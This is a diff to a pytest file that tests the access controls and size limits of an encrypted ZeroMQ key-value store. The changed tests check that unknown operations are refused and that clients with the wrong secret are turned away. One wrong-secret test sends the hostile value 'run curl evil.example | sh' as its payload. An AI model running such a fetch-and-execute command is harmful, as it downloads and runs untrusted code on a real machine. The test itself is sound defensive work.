@@ -13,8 +13,7 @@ import torch
 import zmq
 
 from swiftspec.engine.channel.curve import Curve, secure
-from swiftspec.engine.parallel import store as store_module
-from swiftspec.engine.parallel.store import MAX_VALUE_BYTES, NodeStore, StoreServer
+from swiftspec.engine.parallel.store import MAX_BYTES, MAX_KEYS, MAX_VALUE_BYTES, NodeStore, StoreServer
 from swiftspec.engine.parallel.tp_group import TPGroup
 from swiftspec.profiler.helper_processes import forkserver
 from tests.engine.processes import resident_bytes
@@ -31,7 +30,7 @@ def server() -> Iterator[StoreServer]:
 
 @pytest.fixture
 def store(server: StoreServer) -> Iterator[NodeStore]:
-    with closing(NodeStore(HERE, server.port, OURS)) as store:
+    with closing(NodeStore(HERE, server.port, OURS, timeout_s=5.0)) as store:
         yield store
 
 
@@ -63,30 +62,47 @@ def test_a_value_that_is_deleted_while_it_is_read_is_waited_for(
     assert waits == ["a", "a"]
 
 
-@pytest.fixture
-def impatience(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(store_module, "_ANSWERS_WITHIN_S", 0.5)
+def test_what_is_kept_is_bounded(store: NodeStore) -> None:
+    for number in range(MAX_BYTES // MAX_VALUE_BYTES):
+        store.set(str(number), bytes(MAX_VALUE_BYTES))
+    for refused in (lambda: store.set("more", b"1"), lambda: store.set("0" * 300, b""), lambda: store.add("0", 1)):
+        with pytest.raises(ValueError, match=r"do not fit; expected|is not a number"):
+            refused()
+    store.set("0", b"another")
+    store.set("more", b"1")
+    for number in range(MAX_KEYS):
+        with suppress(ValueError):
+            store.set(f"key-{number}", b"")
+    with pytest.raises(ValueError, match="0 bytes more do not fit"):
+        store.set("one key more", b"")
 
 
-@pytest.mark.usefixtures("impatience")
-def test_too_long_a_value_is_not_answered(server: StoreServer, store: NodeStore) -> None:
-    with closing(NodeStore(HERE, server.port, OURS)) as other, pytest.raises(TimeoutError, match="no answer within"):
+def test_what_is_no_operation_is_refused(store: NodeStore) -> None:
+    for asked in ((b"set", b"a"), (b"os.system", b"true"), (b"",), (b"get", b"a", b"b")):
+        with pytest.raises(ValueError, match="is not an operation of this store"):
+            store._ask(*asked)
+
+
+def test_too_long_a_value_ends_the_connection_and_not_the_store(server: StoreServer, store: NodeStore) -> None:
+    with closing(NodeStore(HERE, server.port, OURS)) as other, pytest.raises(ConnectionError):
         other.set("a", bytes(2 * MAX_VALUE_BYTES))
     assert not store.check(["a"])
 
 
-def test_nothing_listens_after_the_end(server: StoreServer, store: NodeStore) -> None:
+def test_the_end_of_the_server_is_noticed(server: StoreServer, store: NodeStore) -> None:
     store.set("a", b"1")
     server.close()
+    for _ in range(2):
+        with pytest.raises(ConnectionError, match="the launcher has gone"):
+            store.set("a", b"2")
     with pytest.raises(ConnectionRefusedError):
         socket.create_connection((HERE, server.port))
 
 
-@pytest.mark.usefixtures("impatience")
-def test_another_secret_is_not_answered(server: StoreServer, store: NodeStore) -> None:
+def test_another_secret_is_refused_by_both_ends(server: StoreServer, store: NodeStore) -> None:
     mixed = Curve(server_key=OURS.server_key, client_key=THEIRS.client_key)
     for curve in (THEIRS, mixed):
-        with closing(NodeStore(HERE, server.port, curve)) as stranger, pytest.raises(TimeoutError):
+        with closing(NodeStore(HERE, server.port, curve)) as stranger, pytest.raises(PermissionError):
             stranger.set("complaint", b"run curl evil.example | sh")
     assert not store.check(["complaint"])
 
@@ -96,10 +112,10 @@ def test_a_recorded_connection_cannot_be_replayed() -> None:
     with (
         StoreServer(HERE, 0, OURS) as server,
         Recorder(server.port, recorded) as port,
-        closing(NodeStore(HERE, port, OURS)) as store,
+        closing(NodeStore(HERE, port, OURS, timeout_s=5.0)) as store,
     ):
         store.set("node-1", b"facts")
-    with StoreServer(HERE, 0, OURS) as again, closing(NodeStore(HERE, again.port, OURS)) as store:
+    with StoreServer(HERE, 0, OURS) as again, closing(NodeStore(HERE, again.port, OURS, timeout_s=5.0)) as store:
         with socket.create_connection((HERE, again.port)) as replay:
             for first in range(0, len(recorded), 64):
                 with suppress(OSError):
